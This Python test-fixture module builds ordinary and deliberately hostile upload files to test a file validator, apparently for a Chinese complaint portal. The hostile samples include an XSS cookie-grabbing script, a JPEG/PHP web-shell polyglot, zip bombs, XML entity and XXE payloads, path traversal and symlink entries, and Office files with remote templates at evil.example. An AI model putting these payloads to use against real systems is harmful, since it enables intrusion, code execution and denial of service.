"""Files as people send them, and as attackers do: made here, with nothing at random, so that a failure can be repeated."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document
from PIL import Image

GPS = {0: b"\x02\x03\0\0", 1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}
MAKE, GPS_POINTER, ORIENTATION = 0x010F, 0x8825, 0x0112
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def jpeg(*, with_gps: bool = False, size: tuple[int, int] = (60, 40), orientation: int = 1) -> bytes:
    picture = Image.new("RGB", size, (200, 30, 30))
    picture.paste((20, 20, 220), (0, 0, size[0] // 2, size[1] // 2))
    target = io.BytesIO()
    exif = Image.Exif()
    if with_gps:
        exif[MAKE] = "SECRETPHONE"
        exif[ORIENTATION] = orientation
        exif[GPS_POINTER] = GPS
        picture.save(target, "JPEG", exif=exif, comment=b"SECRETCOMMENT", icc_profile=b"SECRETPROFILE" * 20)
    else:
        picture.save(target, "JPEG")
    return target.getvalue()


def png(*, mode: str = "RGB", size: tuple[int, int] = (40, 30)) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size).save(target, "PNG")
    return target.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A small file that says it is a huge picture: a pixel flood."""
    rows = zlib.compress(bytes(1_000_000), 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(body: bytes = b"1 0 obj<</Type/Catalog>>endobj\n") -> bytes:
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def media(brand: bytes, *others: bytes, second: bytes = b"moov") -> bytes:
    brands = brand + b"\0\0\2\0" + b"".join(others)
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands + struct.pack(">I", 108) + second + bytes(100)


def mp3(frames: int = 5) -> bytes:
    """MPEG 1 layer III, 128 kbit/s, 44.1 kHz: 417 bytes a frame."""
    return (b"\xff\xfb\x90\x00" + bytes(413)) * frames


def mp3_with_tag() -> bytes:
    return b"ID3\x03\0\0\0\0\x02\0" + bytes(256) + mp3()


def wav() -> bytes:
    sound = bytes(800)
    header = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, 8000, 16000, 2, 16)
    return b"RIFF" + struct.pack("<I", 36 + len(sound)) + b"WAVE" + header + b"data" + struct.pack("<I", 800) + sound


def docx_from_word() -> bytes:
    document = Document()
    document.add_heading("情况说明", 1)
    document.add_paragraph("食堂饭菜质量差，恳请改进。")
    document.add_picture(io.BytesIO(png()))
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


Part = tuple[str, bytes]


def archive(parts: list[Part], *, packed: bool = True) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as file:
        for name, data in parts:
            file.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 9, 0, 0)), data, file.compression)
    return target.getvalue()


def types(ending: str, *, main_type: str = "", more: str = "") -> bytes:
    main, kind = {
        "docx": (
            "/word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "xlsx": ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    }[ending]
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="{main}" '
        f'ContentType="{main_type or kind}"/>{more}</Types>'
    ).encode()


def links(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> bytes:
    return (
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{OFFICE}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    ).encode()


def office(ending: str = "docx", *more: Part, packed: bool = True, content_types: bytes = b"") -> bytes:
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[ending]
    parts = [
        ("[Content_Types].xml", content_types or types(ending)),
        ("_rels/.rels", links("officeDocument", main, mode="")),
        (main, b"<document>" + "内容".encode() + b"</document>"),
        *more,
    ]
    return archive(parts, packed=packed)


def overlapping() -> bytes:
    """Two directory entries over one local header: the trick of bombs that don't nest."""
    data = bytearray(office("docx", ("word/media/a.bin", b"a" * 50), ("word/media/b.bin", b"a" * 50)))
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        first, second = (file.getinfo(f"word/media/{name}.bin") for name in "ab")
    offset = struct.pack("<I", second.header_offset)
    place = data.rindex(offset)
    data[place : place + 4] = struct.pack("<I", first.header_offset)
    return bytes(data)


def lying_size() -> bytes:
    """The directory says 10 bytes, the entry inflates to 3 MB."""
    data = bytearray(office("docx", ("word/media/a.bin", bytes(3_000_000))))
    size = struct.pack("<I", 3_000_000)
    while (place := data.find(size)) >= 0:
        data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


def flagged_as_encrypted() -> bytes:
    data = bytearray(office("docx"))
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def linked() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        for name, data in (("[Content_Types].xml", types("docx")), ("word/document.xml", b"<a/>")):
            file.writestr(name, data)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return target.getvalue()


def many_entries() -> bytes:
    return office("docx", *((f"word/media/{number}", b"") for number in range(2001)))


def entity_bomb() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>'


def broken_crc() -> bytes:
    data = bytearray(office("docx", ("word/media/a.bin", b"abcdefgh"), packed=False))
    data[data.index(b"abcdefgh")] ^= 1
    return bytes(data)


# name → (content, media type)
GOOD: dict[str, tuple[Callable[[], bytes], str]] = {
    "决定书.pdf": (pdf, "application/pdf"),
    "现场.JPG": (jpeg, "image/jpeg"),
    "现场.jpeg": (lambda: jpeg(with_gps=True), "image/jpeg"),
    "半张.jpg": (lambda: jpeg()[:-200], "image/jpeg"),
    "截图.png": (png, "image/png"),
    "花.heic": (lambda: media(b"heic", b"mif1", second=b"meta"), "image/heic"),
    "花2.heic": (lambda: media(b"mif1", b"heic", second=b"meta"), "image/heic"),
    "录像.mp4": (lambda: media(b"isom", b"avc1"), "video/mp4"),
    "录音.m4a": (lambda: media(b"M4A ", b"isom"), "audio/mp4"),
    "安卓录音.m4a": (lambda: media(b"mp42", b"3gp4", second=b"mdat"), "audio/mp4"),
    "通话.mp3": (mp3, "audio/mpeg"),
    "通话2.mp3": (mp3_with_tag, "audio/mpeg"),
    "通话.wav": (wav, "audio/wav"),
    "通话.amr": (lambda: b"#!AMR\n" + b"\x3c" + bytes(31), "audio/amr"),
    "说明.txt": (lambda: "食堂的事\r\n恳请改进".encode(), "text/plain"),
    "记事本.txt": (lambda: "食堂的事\r\n恳请改进".encode("gb18030"), "text/plain"),
    "带标记.txt": (lambda: b"\xef\xbb\xbf" + "食堂".encode(), "text/plain"),
    "说明.docx": (docx_from_word, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "最小.docx": (office, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "考勤.xlsx": (
        lambda: office("xlsx"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "有网址.docx": (
        lambda: office("docx", ("word/_rels/document.xml.rels", links("hyperlink", "https://example.com/"))),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "有图表.docx": (
        lambda: office("docx", ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", office("xlsx"))),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}

# what it is → (name, content, code of the refusal)
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "html called pdf": ("a.pdf", lambda: HTML, "file_content"),
    "html called jpg": ("a.jpg", lambda: HTML, "file_content"),
    "html called png": ("a.png", lambda: HTML, "file_content"),
    "html called txt": ("a.txt", lambda: b"\n  " + HTML, "file_content"),
    "html called docx": ("a.docx", lambda: HTML, "file_content"),
    "html called mp3": ("a.mp3", lambda: HTML, "file_content"),
    "svg called png": ("a.png", lambda: SVG, "file_content"),
    "svg called jpg": ("a.jpg", lambda: b"<?xml version='1.0'?>" + SVG, "file_content"),
    "svg called txt": ("a.txt", lambda: SVG, "file_content"),
    "svg as itself": ("a.svg", lambda: SVG, "file_kind"),
    "html as itself": ("a.html", lambda: HTML, "file_kind"),
    "mhtml called txt": (
        "a.txt",
        lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n" + HTML,
        "file_content",
    ),
    "rtf called txt": ("a.txt", lambda: b"{\\rtf1 {\\object}}", "file_content"),
    "pdf and html": ("a.pdf", lambda: pdf(HTML), "file_content"),
    "pdf with html behind": ("a.pdf", lambda: pdf() + HTML, "file_content"),
    "pdf and zip": ("a.pdf", lambda: pdf() + office(), "file_content"),
    "pdf with a long tail": ("a.pdf", lambda: pdf() + bytes(5000), "file_content"),
    "pdf that doesn't begin at once": ("a.pdf", lambda: b"MZ" + pdf(), "file_content"),
    "pdf cut off": ("a.pdf", lambda: pdf()[:40], "file_content"),
    "gif and script": ("a.jpg", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "file_content"),
    "gif as itself": ("a.gif", lambda: b"GIF89a", "file_kind"),
    "jpg with script in its comment": (
        "a.jpg",
        lambda: b"\xff\xd8\xff\xfe\x00\x20<script>alert(1)</script>     " + jpeg()[2:],
        "file_content",
    ),
    "jpg of three bytes": ("a.jpg", lambda: b"\xff\xd8\xff", "file_content"),
    "jpg without a frame": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10" + bytes(4000), "file_content"),
    "jpg and php": ("a.jpg", lambda: b"\xff\xd8\xff<?php system($_GET[0]);?>", "file_content"),
    "png called jpg": ("a.jpg", png, "file_content"),
    "jpg called png": ("a.png", jpeg, "file_content"),
    "png with a wrong check sum": ("a.png", lambda: png()[:30] + b"xx" + png()[32:], "file_content"),
    "png of no width": ("a.png", lambda: png_claiming(0, 5), "file_content"),
    "avif called heic": ("a.heic", lambda: media(b"mif1", b"avif", b"heic", second=b"meta"), "file_content"),
    "ftyp and html": ("a.mp4", lambda: media(b"isom")[:20] + HTML, "file_content"),
    "mov called mp4": ("a.mp4", lambda: media(b"qt  ", b"isom"), "file_content"),
    "program called mp3": ("a.mp3", lambda: b"MZ\x90\x00" + bytes(200) + mp3(), "file_content"),
    "program called txt": ("a.txt", lambda: b"MZ\x90\x00" + bytes(200), "file_content"),
    "program called pdf": ("a.pdf", lambda: b"\x7fELF" + bytes(200), "file_content"),
    "program as itself": ("工资表.exe", lambda: b"MZ", "file_kind"),
    "wave without a format": ("a.wav", lambda: b"RIFF\x10\0\0\0WAVEdata\0\0\0\0" + bytes(50), "file_content"),
    "amr of one line": ("a.amr", lambda: b"#!AMR\n", "file_content"),
    "text in utf-16": ("a.txt", lambda: "食堂abc".encode("utf-16"), "file_content"),
    "text with control characters": ("a.txt", lambda: b"abc\x1b[2Jdef", "file_content"),
    "text that is no text": ("a.txt", lambda: b"\xff\xfe\xfd" * 9, "file_content"),
    "empty": ("a.pdf", lambda: b"", "file_empty"),
    "old word": ("a.doc", lambda: OLE, "file_kind"),
    "old word called docx": ("a.docx", lambda: OLE, "file_ole"),
    "ole called pdf": ("a.pdf", lambda: OLE, "file_ole"),
    "zip as itself": ("a.zip", office, "file_kind"),
    "docx called pdf": ("a.pdf", office, "file_content"),
    "docx called xlsx": ("a.xlsx", office, "file_content"),
    "xlsx called docx": ("a.docx", lambda: office("xlsx"), "file_content"),
    "ofd called docx": (
        "a.docx",
        lambda: archive([("OFD.xml", b"<ofd/>"), ("Doc_0/Document.xml", b"<a/>")]),
        "file_content",
    ),
    "docm as itself": ("a.docm", office, "file_kind"),
    "docx with a macro": ("a.docx", lambda: office("docx", ("word/vbaProject.bin", b"x")), "file_macro"),
    "docx with a macro elsewhere": ("a.docx", lambda: office("docx", ("evil/VBAproject.BIN", b"x")), "file_macro"),
    "xlsx with a macro sheet": ("a.xlsx", lambda: office("xlsx", ("xl/macrosheets/sheet1.xml", b"<a/>")), "file_macro"),
    "docm called docx": (
        "a.docx",
        lambda: office(content_types=types("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "file_macro",
    ),
    "macro linked by another name": (
        "a.docx",
        lambda: office(
            "docx",
            (
                "word/_rels/document.xml.rels",
                links("x", "data.bin", mode="").replace(OFFICE.encode() + b"/x", b"http://x/vbaProject"),
            ),
        ),
        "file_macro",
    ),
    "docx with an object": ("a.docx", lambda: office("docx", ("word/embeddings/oleObject1.bin", OLE)), "file_object"),
    "docx with an object renamed": ("a.docx", lambda: office("docx", ("word/media/image1.png", OLE)), "file_object"),
    "docx with activex": ("a.docx", lambda: office("docx", ("word/activeX/activeX1.xml", b"<a/>")), "file_object"),
    "docx with a program": ("a.docx", lambda: office("docx", ("word/media/a.bin", b"MZ\x90\0")), "file_object"),
    "remote template": (
        "a.docx",
        lambda: office(
            "docx", ("word/_rels/settings.xml.rels", links("attachedTemplate", "https://evil.example/t.dotm"))
        ),
        "file_outside",
    ),
    "remote picture": (
        "a.docx",
        lambda: office("docx", ("word/_rels/document.xml.rels", links("image", "http://evil.example/a.png"))),
        "file_outside",
    ),
    "remote without saying so": (
        "a.docx",
        lambda: office("docx", ("word/_rels/document.xml.rels", links("image", "http://evil.example/a", mode=""))),
        "file_outside",
    ),
    "link to a network drive": (
        "a.docx",
        lambda: office("docx", ("word/_rels/document.xml.rels", links("hyperlink", "file://evil/share"))),
        "file_outside",
    ),
    "workbook from elsewhere": (
        "a.xlsx",
        lambda: office(
            "xlsx", ("xl/externalLinks/_rels/externalLink1.xml.rels", links("externalLinkPath", "file:///D:/a.xlsx"))
        ),
        "file_outside",
    ),
    "entity bomb in the text": ("a.docx", lambda: office("docx", ("word/footer.xml", entity_bomb())), "file_entity"),
    "entity bomb late": (
        "a.xlsx",
        lambda: office("xlsx", ("xl/a.xml", b"<!--" + bytes(262_130) + b"-->" + entity_bomb()), packed=False),
        "file_entity",
    ),
    "entity in utf-16": (
        "a.docx",
        lambda: office("docx", ("word/a.xml", entity_bomb().decode().encode("utf-16"))),
        "file_entity",
    ),
    "outside entity in the types": (
        "a.docx",
        lambda: office(content_types=b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
        "file_entity",
    ),
    "bomb by ratio": ("a.docx", lambda: office("docx", ("word/media/a.bin", bytes(30_000_000))), "file_bomb"),
    "bomb by total": (
        "a.xlsx",
        lambda: office("xlsx", *((f"xl/a{number}.bin", bytes(1_000_000)) for number in range(40))),
        "file_bomb",
    ),
    "bomb by entries": ("a.docx", many_entries, "file_bomb"),
    "bomb by a long directory": (
        "a.docx",
        lambda: office("docx", *((f"word/{number}" + "x" * 60_000, b"") for number in range(20))),
        "file_bomb",
    ),
    "bomb by overlap": ("a.docx", overlapping, "file_bomb"),
    "bomb by a false size": ("a.docx", lying_size, "file_bomb"),
    "archive in the archive": ("a.docx", lambda: office("docx", ("word/media/a.bin", office())), "file_nested"),
    "three levels": (
        "a.docx",
        lambda: office("docx", ("word/embeddings/a.docx", office("docx", ("word/embeddings/b.docx", office())))),
        "file_nested",
    ),
    "macro one level down": (
        "a.docx",
        lambda: office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/vbaProject.bin", b"x")))),
        "file_macro",
    ),
    "absolute path": ("a.docx", lambda: office("docx", ("/etc/cron.d/x", b"x")), "file_path"),
    "path upwards": ("a.docx", lambda: office("docx", ("word/../../x", b"x")), "file_path"),
    "path of windows": ("a.docx", lambda: office("docx", ("..\\..\\x", b"x")), "file_path"),
    "path with a drive": ("a.docx", lambda: office("docx", ("C:/x", b"x")), "file_path"),
    "symbolic link": ("a.docx", linked, "file_path"),
    "docx with a password": ("a.docx", flagged_as_encrypted, "file_password"),
    "docx with something before": ("a.docx", lambda: b"PK\x03\x04junk" + office(), "file_damaged"),
    "docx with something behind": ("a.docx", lambda: docx_from_word() + HTML, "file_damaged"),
    "docx cut off": ("a.docx", lambda: docx_from_word()[:-40], "file_damaged"),
    "docx with a wrong check sum": ("a.docx", broken_crc, "file_damaged"),
    "docx with no types": ("a.docx", lambda: archive([("word/document.xml", b"<a/>")]), "file_content"),
    "docx with broken types": ("a.docx", lambda: office(content_types=b"<Types"), "file_damaged"),
}
